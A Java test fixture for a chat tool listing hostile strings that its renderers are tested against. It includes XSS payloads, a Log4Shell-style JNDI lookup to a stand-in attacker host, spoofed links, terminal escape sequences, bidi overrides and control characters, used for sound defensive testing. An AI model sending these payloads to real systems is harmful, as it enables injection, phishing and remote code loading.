package dev.chatops.testing;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.List;

/// Texts that people and programs could send to do harm: mark-up of every platform, mentions of
/// everybody, templates, control characters, what reorders or hides, and sheer size.
///
/// Whatever shows or stores text from outside is tried with all of them.
public final class HostileTexts {

  /// What every renderer has to show as words.
  public static final List<String> SHOWN =
      List.of(
          "<!channel> <!here> <!everyone>",
          "<!channel|innocent> and <!here",
          "@channel @here @everyone @room",
          "<@U012AB3CD> <@W012AB3CD|boss>",
          "<!subteam^S012AB3CD> <#C012AB3CD|secrets>",
          "&lt;!channel&gt; &amp;lt;!channel&amp;gt;",
          "%3C!channel%3E \\u003c!channel\\u003e &#60;!channel&#62;",
          "<https://evil.example|https://bank.example>",
          "https://evil.example and [bank](https://evil.example)",
          "javascript:alert(1) <script>alert(1)</script> <img src=x onerror=alert(1)>",
          "<!date^0^{date}|yesterday>",
          "*bold* _italic_ ~struck~ **both** __more__",
          "a*b*c a_b_c _a *b _c* d_",
          "`code` ``double`` ```fence``` ` lone",
          "```\n*out of the fence*\n```\n<!here>",
          "````` five and *bold*",
          "*",
          "_",
          "`",
          "~",
          "> quoted\n>>> all of it",
          "  > quoted after spaces",
          ":skull: :+1: :a:b: 12:30:45",
          "• not ours\n• nor this",
          "line\r\nline\rline\u0085line\u2028line\u2029line\u000bline\u000cline",
          "\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 \u009b1m",
          "\u001b[2J\u001b[1;1H\u001bc gone",
          "deploy \u202eevil\u202c \u2066inner\u2069",
          "zero\u200bwidth\u200djoined\ufeff\u00adhyphen",
          "nul\u0000 bell\u0007 back\b delete\u007f",
          "half \ud83d a character \ude00",
          "whole 😀 👩‍👩‍👧 e\u0301 ﷽ Ω",
          "private \ue000 and unassigned \u0378",
          "{{user}} ${jndi:ldap://evil.example/a} %s %n \\n",
          "|",
          "<",
          ">",
          "&",
          "<<<>>>&&&|||",
          " ",
          "\n\n\n",
          "",
          "&<>".repeat(2_000),
          "*_~`".repeat(2_000),
          "\u202e".repeat(2_000),
          "x".repeat(1_000_000));

  private HostileTexts() {}

  /// @param repeat how often the text stands in a row
  private record Entry(String name, String text, int repeat) {}

  public static List<String> all() {
    try (var file = HostileTexts.class.getResourceAsStream("hostile-texts.json")) {
      return List.of(new ObjectMapper().readValue(file, Entry[].class)).stream()
          .map(entry -> entry.text().repeat(entry.repeat()))
          .toList();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
